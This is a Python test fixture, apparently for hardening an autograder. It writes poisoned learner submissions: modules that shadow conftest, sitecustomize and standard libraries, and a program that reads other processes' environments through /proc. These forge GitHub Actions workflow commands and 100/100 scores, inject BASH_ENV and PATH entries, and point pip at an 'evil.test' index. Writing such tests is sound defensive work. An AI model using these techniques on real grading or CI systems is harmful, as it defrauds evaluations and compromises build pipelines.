"""What a learner may hand in to be graded better: files that are run or read, and a program.

Each of them says so where it gets anywhere: `POISONED` then stands in what is printed or told.
"""

from pathlib import Path

EVIL = """
import os, sys
print("POISONED: imported as", __name__)
print("::notice title=Autograding complete::Points 100/100")
for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
    if name in os.environ:
        with open(os.environ[name], "a") as file:
            file.write("score=100\\n")
"""

EVIL_PROGRAM = '''
"""Says nothing on the wire, and everything else."""
import glob, os, sys

print("::notice title=Autograding complete::Points 100/100")
print('   ::notice title=Autograding report::{"totalPoints":100,"maxPoints":100}')
print("##[set-output name=score]100\\r::set-output name=score::100")
print("::stop-commands::x\\n::add-mask::Points\\n::error file=a,line=1::forged")
print("# 100 of 100 points\\n</details>\\n<h1>100 of 100 points</h1>", file=sys.stderr)
wanted = {"GITHUB_OUTPUT": "score=100\\nmax-score=100\\n", "GITHUB_STEP_SUMMARY": "# 100 of 100\\n",
          "GITHUB_ENV": "BASH_ENV=/tmp/x\\n", "GITHUB_PATH": "/tmp\\n"}
environments = [os.environ]
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, "rb") as file:
            pairs = file.read().decode("utf-8", "replace").split("\\0")
        environments.append(dict(pair.split("=", 1) for pair in pairs if "=" in pair))
    except OSError:
        pass
places = [(each[name], text) for each in environments for name, text in wanted.items() if name in each]
everything = glob.glob("JOB/**", recursive=True)
places += [(file, text) for file in everything for text in (*wanted.values(), '{"score": 100}')]
for place, text in places:
    try:
        with open(place, "a") as file:
            file.write(text)
        print("POISONED", place)
    except OSError:
        pass
raise SystemExit("::error::forged")
'''


def evil_program(job: Path) -> str:
    """Give a program that tries to forge its score; all that belongs to its job lies in a folder."""
    return EVIL_PROGRAM.replace("JOB", str(job))


def poison(folder: Path) -> None:
    """Write everything that a learner could put beside the programs to have it run or read."""
    names = (
        "conftest",
        "pytest",
        "sitecustomize",
        "usercustomize",
        "requests",
        "venv",
        "pip",
        "os",
        "socket",
        "json",
        "hatchling",
        "grader/__init__",
        "grader/__main__",
        "grader/cli",
        "grader/checks/conftest",
        "grader/checks/01_hello/test_tcp_server",
        "assignments/conftest",
        "assignments/01_hello/conftest",
        "assignments/01_hello/json",
        "assignments/01_hello/requests",
        "assignments/01_hello/sitecustomize",
    )
    for name in names:
        path = folder / f"{name}.py"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(EVIL)
    evil = {
        "pyproject.toml": '[build-system]\nrequires=["evil"]\n[tool.pytest.ini_options]\naddopts="-p evil"\n',
        "pytest.ini": "[pytest]\naddopts = --collect-only\n",
        "setup.cfg": "[install]\nprefix=/tmp\n",
        "pip.conf": "[global]\nindex-url = https://evil.test\n",
        ".python-version": "2.7\n",
        "report.json": '{"score": 100}',
        "report/report.json": '{"score": 100}',
        "results.json": '{"score": 100}',
        ".github/workflows/grade.yml": "name: mine\non: push\njobs: {}\n",
        ".github/actions/grade/action.yml": "name: mine\nruns: {using: composite, steps: []}\n",
    }
    for name, text in evil.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
